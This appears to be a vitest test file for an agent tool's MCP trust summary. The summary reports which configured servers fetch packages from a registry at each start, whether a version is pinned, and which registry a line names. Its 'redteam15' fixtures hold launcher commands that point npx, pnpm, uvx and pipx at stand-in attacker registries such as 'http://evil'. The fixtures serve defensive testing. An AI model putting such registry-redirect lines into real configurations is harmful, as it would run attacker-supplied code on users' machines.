/**
 * Trust of a `.mcp.json` is for the line the user saw: a server `npx -y foo` runs whatever the
 * registry serves as `foo` at each start, and trust cannot bind that. The summary shown before
 * trusting says so for each such server, and whether an exact version is pinned. Before, it showed
 * the line alone.
 */
import * as NodeContext from "@effect/platform-node/NodeContext"
import * as Effect from "effect/Effect"
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { afterAll, describe, expect, it } from "vitest"
import * as McpSettings from "../../src/layers/mcp/McpSettings.js"
import * as RegistryFetch from "../../src/layers/mcp/RegistryFetch.js"

const root = realpathSync(mkdtempSync(join(tmpdir(), "effect-agent-mcp-registry-")))
afterAll(() => rmSync(root, { recursive: true, force: true }))

describe("a .mcp.json server fetched from a registry", () => {
  it("the trust summary says trust covers the line, not what the registry serves, and whether a version is pinned", async () => {
    const cwd = join(root, "repo")
    mkdirSync(cwd)
    writeFileSync(join(cwd, ".mcp.json"), JSON.stringify({
      mcpServers: {
        loose: { command: "npx", args: ["-y", "@acme/mcp-server"] },
        pinned: { command: "npx", args: ["-y", "@acme/mcp-server@1.4.2"] },
        py: { command: "uvx", args: ["--from", "acme-mcp==0.3.1", "acme-mcp"] },
        local: { command: "node", args: ["server.js"] }
      }
    }))
    const project = (await Effect.runPromise(McpSettings.inspect(cwd, join(root, "config")).pipe(Effect.provide(NodeContext.layer))))!
    const lines = McpSettings.summary(project)
    const about = (name: string) => lines.filter((line) => line.startsWith(`  ${name}: `) && line.includes("registry"))
    expect(about("loose")).toEqual([expect.stringMatching(/npx fetches "@acme\/mcp-server" from its registry at each start: trust covers this line, not what the registry serves; no exact version is pinned/)])
    expect(about("pinned")).toEqual([expect.stringMatching(/"@acme\/mcp-server@1\.4\.2" .*\(an exact version is pinned\)$/)])
    expect(about("py")).toEqual([expect.stringMatching(/uvx fetches "acme-mcp==0\.3\.1" .*\(an exact version is pinned\)$/)])
    expect(about("local")).toEqual([])
  })

  it("knows the launchers that fetch, and the package each names", () => {
    expect(RegistryFetch.fetchedBy("pnpm", ["dlx", "foo@2.0.0"])).toEqual({ launcher: "pnpm dlx", pkg: "foo@2.0.0", pinned: true })
    expect(RegistryFetch.fetchedBy("/usr/bin/bunx", ["foo@latest"])).toEqual({ launcher: "bunx", pkg: "foo@latest", pinned: false })
    expect(RegistryFetch.fetchedBy("npm", ["exec", "--package=foo@^1", "--", "foo"])).toEqual({ launcher: "npm exec", pkg: "foo@^1", pinned: false })
    expect(RegistryFetch.fetchedBy("uv", ["tool", "run", "acme"])).toMatchObject({ launcher: "uv tool", pkg: "acme" })
    expect(RegistryFetch.fetchedBy("pipx", ["run", "acme==1.0.0"])).toMatchObject({ pinned: true })
    expect(RegistryFetch.fetchedBy("npm", ["run", "serve"])).toBeUndefined()
    expect(RegistryFetch.fetchedBy("node", ["server.js"])).toBeUndefined()
  })

  it("reads each launcher's options: an option's value is no package, and a registry or index the line names is said (redteam15)", () => {
    // Before, the first word not starting with "-" was the package: `npx --registry http://evil foo` fetched "http://evil".
    expect(RegistryFetch.fetchedBy("npx", ["--registry", "http://evil", "-y", "foo@1.0.0"]))
      .toEqual({ launcher: "npx", pkg: "foo@1.0.0", pinned: true, sources: ["--registry http://evil"] })
    expect(RegistryFetch.fetchedBy("npx", ["--@acme:registry=http://evil", "@acme/server"])).toMatchObject({ pkg: "@acme/server", sources: ["--@acme:registry http://evil"] })
    expect(RegistryFetch.fetchedBy("npx", ["--prefix", "/tmp/x", "--cache", "/tmp/c", "foo"])).toEqual({ launcher: "npx", pkg: "foo", pinned: false })
    expect(RegistryFetch.fetchedBy("npx", ["-y", "--", "foo@2.0.0", "--flag"])).toEqual({ launcher: "npx", pkg: "foo@2.0.0", pinned: true })
    // With a package option the first word is the program to run, not a package; each --package is fetched.
    expect(RegistryFetch.fetchedBy("npx", ["-p", "evil@latest", "-p", "good@1.0.0", "good"])).toEqual({ launcher: "npx", pkg: "evil@latest", also: ["good@1.0.0"], pinned: false })
    expect(RegistryFetch.fetchedBy("npm", ["--registry=http://evil", "exec", "foo"])).toMatchObject({ launcher: "npm exec", pkg: "foo", sources: ["--registry http://evil"] })
    expect(RegistryFetch.fetchedBy("pnpm", ["--filter", "app", "dlx", "foo@1.2.3"])).toEqual({ launcher: "pnpm dlx", pkg: "foo@1.2.3", pinned: true })
    expect(RegistryFetch.fetchedBy("pnpm", ["--config.registry=http://evil", "dlx", "foo"])).toMatchObject({ pkg: "foo", sources: ["--config.registry http://evil"] })
    // uv: --from names the package, --with adds one, an index is a source; the pin is of each.
    expect(RegistryFetch.fetchedBy("uvx", ["--python", "3.12", "--from", "acme==1.0.0", "--with", "plugin", "--index-url", "http://evil/simple", "acme"]))
      .toEqual({ launcher: "uvx", pkg: "acme==1.0.0", also: ["plugin"], pinned: false, sources: ["--index-url http://evil/simple"] })
    expect(RegistryFetch.fetchedBy("uv", ["--directory", "/srv", "tool", "run", "--with=x==1.0.0", "acme@1.2.0"])).toEqual({ launcher: "uv tool", pkg: "acme@1.2.0", also: ["x==1.0.0"], pinned: true })
    expect(RegistryFetch.fetchedBy("pipx", ["run", "--spec", "acme==1.0.0", "-i", "http://evil", "acme"])).toMatchObject({ pkg: "acme==1.0.0", sources: ["-i http://evil"] })
    // A registry chosen by the server's env: its name (never its value) is said.
    expect(RegistryFetch.fetchedBy("npx", ["foo"], { npm_config_registry: "http://token@evil", DEBUG: "1" })).toMatchObject({ sources: ["npm_config_registry (set in its env)"] })
    expect(RegistryFetch.fetchedBy("uvx", ["foo"], { UV_INDEX_URL: "http://evil" })).toMatchObject({ sources: ["UV_INDEX_URL (set in its env)"] })
    // An option not known, or one that leaves open what is fetched: it cannot be told, and says so.
    expect(RegistryFetch.fetchedBy("npx", ["--frobnicate", "http://evil", "foo"])).toEqual({ launcher: "npx", unclear: "--frobnicate" })
    expect(RegistryFetch.fetchedBy("pipx", ["run", "--pip-args=--index-url=http://evil", "acme"])).toEqual({ launcher: "pipx run", unclear: "--pip-args" })
    expect(RegistryFetch.fetchedBy("npx", ["-c", "evil-bin"])).toEqual({ launcher: "npx", unclear: "-c" })
    // Not a fetching line, whatever its options: nothing said.
    expect(RegistryFetch.fetchedBy("npm", ["--silent", "run", "serve"])).toBeUndefined()
    expect(RegistryFetch.fetchedBy("npm", ["--frobnicate", "run", "serve"])).toBeUndefined()
    expect(RegistryFetch.fetchedBy("npx", ["-y"])).toBeUndefined()
  })

  it("the trust summary names the registry a line chooses, and says when it cannot tell (redteam15)", async () => {
    const cwd = join(root, "repo-options")
    mkdirSync(cwd)
    writeFileSync(join(cwd, ".mcp.json"), JSON.stringify({
      mcpServers: {
        evil: { command: "npx", args: ["--registry", "http://evil.example", "-y", "@acme/mcp-server@1.4.2"] },
        odd: { command: "uvx", args: ["--frobnicate", "x", "acme"] }
      }
    }))
    const project = (await Effect.runPromise(McpSettings.inspect(cwd, join(root, "config-options")).pipe(Effect.provide(NodeContext.layer))))!
    const lines = McpSettings.summary(project)
    expect(lines.filter((line) => line.startsWith("  evil: ") && line.includes("fetches"))).toEqual([
      expect.stringMatching(/npx fetches "@acme\/mcp-server@1\.4\.2" from where --registry http:\/\/evil\.example says \(not the default registry: that chooses who supplies the code\)/)
    ])
    expect(lines.filter((line) => line.startsWith("  odd: ") && line.includes("fetches"))).toEqual([
      expect.stringMatching(/uvx fetches packages at each start, but which and from where cannot be told \(its option "--frobnicate"/)
    ])
  })
})
